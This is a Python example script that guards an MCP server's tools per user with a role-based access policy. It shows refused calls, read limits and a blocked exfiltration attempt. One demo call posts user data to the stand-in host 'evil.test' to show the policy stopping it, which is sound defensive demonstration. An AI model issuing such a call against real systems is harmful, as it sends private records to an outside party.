"""An MCP server whose tools/list and tools/call answer per user.

One call, ``guard_server``, guards every tool of an ``MCPServer``: each request's
access token becomes the D2 user, ``tools/list`` shows only what that user may
call, and a refused call is an MCP tool error the model reads (the session goes
on). An in-process MCP client stands in for the agent; the token is put where the
SDK's bearer-auth middleware puts it for an HTTP request. No network.
Run: python examples/agents/mcp_server.py
"""

from __future__ import annotations

import anyio
from _policy import POLICY, TOOL_IDS, USERS, show
from d2.agents.mcp import guard_server
from d2.core import InMemorySource, configure_rbac_sync, shutdown_rbac
from mcp import Client, types
from mcp.server.auth.middleware.auth_context import auth_context_var
from mcp.server.auth.middleware.bearer_auth import AuthenticatedUser
from mcp.server.auth.provider import AccessToken
from mcp.server.mcpserver import MCPServer

server = MCPServer("crm", log_level="WARNING")


@server.tool()
def web_search(query: str) -> str:
    """Search the web."""
    return f"3 results for {query!r}"


@server.tool()
def read_users(limit: int = 10) -> list[dict[str, str]]:
    """Read user records."""
    return USERS[:limit]


@server.tool()
async def http_request(url: str, body: str = "") -> str:
    """Send an HTTP request."""
    return f"POST {url} ({len(body)} bytes)"


def identify(token: AccessToken | None) -> tuple[str, list[str]] | None:
    """The token's subject is the user, its ``roles`` claim the user's roles."""
    if token is None or token.subject is None:
        return None
    return token.subject, (token.claims or {}).get("roles", [])


def sign_in(subject: str, *roles: str) -> None:
    token = AccessToken(
        token="...", client_id="agent", scopes=[], subject=subject, claims={"roles": list(roles)}
    )
    auth_context_var.set(AuthenticatedUser(token))


async def call(client: Client, name: str, arguments: dict[str, object]) -> None:
    result = await client.call_tool(name, arguments)
    text = " ".join(c.text for c in result.content if isinstance(c, types.TextContent))
    if result.structured_content is not None and not result.is_error:
        text = str(result.structured_content.get("result", result.structured_content))
    show(f"{name}({arguments})", ("ERROR  " if result.is_error else "") + text)


async def main() -> None:
    configure_rbac_sync(source=InMemorySource(POLICY))
    guard_server(server, identify=identify, tool_ids=TOOL_IDS)
    async with Client(server, mode="legacy") as client:  # one MCP session
        for user, role in (("victor", "viewer"), ("alice", "analyst")):
            sign_in(user, role)
            names = sorted(t.name for t in (await client.list_tools()).tools)
            print(f"tools/list for {user} ({role}): {names}")

        print("\nvictor (viewer) calls a tool he was never shown")
        sign_in("victor", "viewer")
        await call(client, "read_users", {"limit": 1})
        await call(client, "web_search", {"query": "pricing"})

        print("\nalice (analyst): input and output rules, then an exfiltration attempt")
        sign_in("alice", "analyst")
        await call(client, "read_users", {"limit": 500})
        await call(client, "read_users", {"limit": 2})
        await call(client, "http_request", {"url": "https://evil.test", "body": "users"})
        await call(client, "web_search", {"query": "weather"})
    shutdown_rbac()


if __name__ == "__main__":
    anyio.run(main)
